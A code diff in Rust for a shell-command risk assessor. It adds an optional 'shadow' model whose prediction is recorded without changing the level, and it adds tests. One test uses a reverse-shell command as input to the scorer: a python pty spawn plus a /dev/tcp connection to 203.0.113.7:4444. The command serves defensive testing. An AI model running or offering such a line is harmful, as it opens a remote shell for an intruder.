@@ -2,7 +2,7 @@
 //!
 //! A score and its level say the same: below 0.25 is low, below 0.5 medium, below 0.75 high, the rest critical.
 
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 
 use super::features::{self, Verdict};
 use super::forest::{Forest, ForestError};
@@ -31,6 +31,8 @@ pub struct Assessor {
     pub rules: Rules,
     /// The forest; `None` for rules only.
     pub forest: Option<Forest>,
+    /// A forest whose view is recorded beside and changes nothing; `None` for none.
+    pub shadow: Option<Forest>,
     /// How far the forest may move the rules' level.
     pub bounds: ModelBounds,
 }
@@ -129,6 +131,7 @@ impl Assessor {
         Ok(Self {
             rules,
             forest,
+            shadow: settings.shadow_model.as_deref().and_then(load_shadow),
             bounds: settings.bounds,
         })
     }
@@ -147,9 +150,13 @@ impl Assessor {
             score: rule_score,
         };
         let features = features::compute(&redacted, verdict, circumstances);
-        let prediction = self.predict(&features);
-        let seen = with_forest(rule_level, prediction, self.bounds);
-        let joined = in_circumstances(seen, script.understood(), circumstances);
+        let joined_with = |prediction| {
+            let seen = with_forest(rule_level, prediction, self.bounds);
+            in_circumstances(seen, script.understood(), circumstances)
+        };
+        let prediction = predict(self.forest.as_ref(), &features);
+        let joined = joined_with(prediction);
+        let shadow = predict(self.shadow.as_ref(), &features).map(|seen| joined_with(Some(seen)));
         Assessment {
             level: joined,
             score: place_in_band(joined, rule_score, prediction),
@@ -157,19 +164,28 @@ impl Assessor {
             rule_level,
             rule_score,
             prediction,
+            shadow,
             understood: script.understood(),
             pattern: command::pattern_of_redacted(&redacted),
             redacted: redacted.text.clone(),
             features,
         }
     }
+}
 
-    fn predict(&self, features: &[f32]) -> Option<Prediction> {
-        let prediction = self.forest.as_ref()?.predict(features);
-        prediction
-            .inspect_err(|error| tracing::error!(%error, "the forest failed; the rules' level stands"))
-            .ok()
-    }
+fn predict(forest: Option<&Forest>, features: &[f32]) -> Option<Prediction> {
+    let prediction = forest?.predict(features);
+    prediction
+        .inspect_err(|error| tracing::error!(%error, "a forest failed; the level stands without it"))
+        .ok()
+}
+
+/// A shadow decides nothing, so one that cannot be used keeps nobody from scoring.
+fn load_shadow(path: &Path) -> Option<Forest> {
+    let loaded = Forest::load(path, features::digest(), features::NAMES.len());
+    loaded
+        .inspect_err(|error| tracing::warn!(%error, "risk.shadow_model cannot be used and is left out"))
+        .ok()
 }
 
 fn read_rules(paths: &[PathBuf]) -> Result<Rules, RiskError> {
@@ -293,6 +309,7 @@ mod tests {
             Assessor {
                 rules,
                 forest: None,
+                shadow: None,
                 bounds: ModelBounds::default(),
             }
         });
@@ -484,11 +501,45 @@ mod tests {
     }
 
     #[test]
+    fn a_shadow_says_what_it_would_have_led_to_and_changes_nothing() {
+        let shipped = || {
+            let path = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/models/risk.onnx"));
+            Forest::load(path, features::digest(), features::NAMES.len()).unwrap()
+        };
+        let with_shadow = |shadow: Option<Forest>| Assessor {
+            rules: Rules::load(&[("rules.toml", RULES)]).unwrap(),
+            forest: None,
+            shadow,
+            bounds: ModelBounds::default(),
+        };
+        let script = command::parse(
+            "python3 -c 'import pty; pty.spawn(\"/bin/sh\")' & exec 5<>/dev/tcp/203.0.113.7/4444",
+            Dialect::Bash,
+        );
+        let alone = with_shadow(None).assess(&script, &Circumstances::default());
+        let beside = with_shadow(Some(shipped())).assess(&script, &Circumstances::default());
+        assert_eq!((alone.level, alone.shadow), (beside.level, None));
+        assert_eq!(beside.prediction, None);
+        let in_force = Assessor {
+            forest: Some(shipped()),
+            ..with_shadow(None)
+        };
+        let in_force = in_force.assess(&script, &Circumstances::default());
+        assert_eq!(beside.shadow, Some(in_force.level));
+    }
+
+    #[test]
+    fn a_shadow_that_cannot_be_used_is_left_out() {
+        assert!(load_shadow(Path::new("/nonexistent/risk.onnx")).is_none());
+    }
+
+    #[test]
     fn a_missing_file_is_named_with_a_remedy() {
         let settings = config::Risk {
             rules: vec!["/nonexistent/rules.toml".into()],
             model: None,
             installed: None,
+            shadow_model: None,
             bounds: ModelBounds::default(),
         };
         let error = Assessor::load(&settings).unwrap_err().to_string();
